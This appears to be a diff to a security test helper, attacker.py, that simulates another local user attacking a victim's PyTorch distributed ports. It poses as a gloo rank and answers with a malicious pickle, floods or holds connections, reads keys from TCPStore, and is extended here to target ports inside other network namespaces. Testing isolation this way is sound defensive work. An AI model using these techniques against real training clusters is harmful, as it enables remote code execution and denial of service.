@@ -1,14 +1,15 @@
 """Another user of this machine, who knows what there is to know: gives root up, watches for listening ports of the
 victim on loopback, and attacks each at once. Run by test_other_user; harmless (its pickle would run ``id``).
 
-    python attacker.py VICTIM_UID MODE MARK
+    python attacker.py VICTIM_UID MODE MARK [TABLE ...]
 
 MODE join: poses as a rank, by the small numbers that gloo expects; answers what it hears with a pickle whose command
 writes MARK.
 MODE hold: opens connections and says nothing. MODE flood: opens thousands and writes rubbish.
 MODE store: tries every listening port as torch's TCPStore.
-Leaves a file beside MARK for each port that it has attacked, named by the inode of the listening socket. Prints what it
-has heard, one line each, and counts at the end of stdin.
+A TABLE is /proc/PID/net/tcp of a process on another host (a network namespace): then those are attacked, on their
+addresses, in place of loopback. Leaves a file beside MARK for each port that it has attacked, named by the inode of the
+listening socket. Prints what it has heard, one line each, and counts at the end of stdin.
 """
 
 import os
@@ -23,7 +24,7 @@ from contextlib import suppress
 from pathlib import Path
 
 OTHER_UID = 12345
-victim, mode, mark = sys.argv[1:]
+victim, mode, mark, *tables = sys.argv[1:]
 held = []
 counts = {"ports": 0, "connections": 0, "heard": 0}
 
@@ -34,17 +35,23 @@ class Evil:
 
 
 def listening():
-    with open("/proc/net/tcp") as file:
-        rows = [line.split() for line in file.read().splitlines()[1:]]
-    theirs = [row for row in rows if row[3] == "0A" and row[7] == victim and row[1].startswith("0100007F")]
-    return {(int(row[1].split(":")[1], 16), row[9]) for row in theirs}
+    """(address, port), inode of each socket to attack."""
+    found = set()
+    for table in tables or ("/proc/net/tcp",):
+        with suppress(OSError), open(table) as file:  # its host has gone
+            for row in [line.split() for line in file.read().splitlines()[1:]]:
+                host, port = row[1].split(":")
+                address = socket.inet_ntoa(struct.pack("=I", int(host, 16)))
+                if row[3] == "0A" and row[7] == victim and (address == "127.0.0.1") != bool(tables):
+                    found.add(((address, int(port, 16)), row[9]))
+    return {each for each in found if each[0][0] != "0.0.0.0"}
 
 
-def connect(port, patience_ms):
+def connect(end, patience_ms):
     connection = socket.socket()
     connection.setblocking(False)
     with suppress(BlockingIOError):
-        connection.connect(("127.0.0.1", port))
+        connection.connect(end)
     poll = select.poll()
     poll.register(connection, select.POLLOUT)
     if not poll.poll(patience_ms):
@@ -62,30 +69,30 @@ def answer(connection):
             connection.sendall(pickle.dumps(Evil()))
 
 
-def attack(port, patience_ms):
+def attack(end, patience_ms):
     counts["ports"] += 1
     if mode == "join":
         for number in range(6):
-            connection = connect(port, patience_ms)
+            connection = connect(end, patience_ms)
             connection.settimeout(2)
             connection.sendall(struct.pack("q", number))
             threading.Thread(target=answer, args=(connection,), daemon=True).start()
     elif mode == "hold":
         for _ in range(20):
-            connect(port, patience_ms)
+            connect(end, patience_ms)
     elif mode == "flood":
         for _ in range(2000):
-            connect(port, patience_ms).send(b"\xff" * 64)
+            connect(end, patience_ms).send(b"\xff" * 64)
     elif mode == "store":
-        threading.Thread(target=read_store, args=(port,), daemon=True).start()
+        threading.Thread(target=read_store, args=end, daemon=True).start()
 
 
-def read_store(port):
+def read_store(address, port):
     from datetime import timedelta
 
     with suppress(RuntimeError):
         store = torch.distributed.TCPStore(
-            "127.0.0.1", port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=2)
+            address, port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=2)
         )
         keys = store.list_keys()
         counts["heard"] += len(keys)
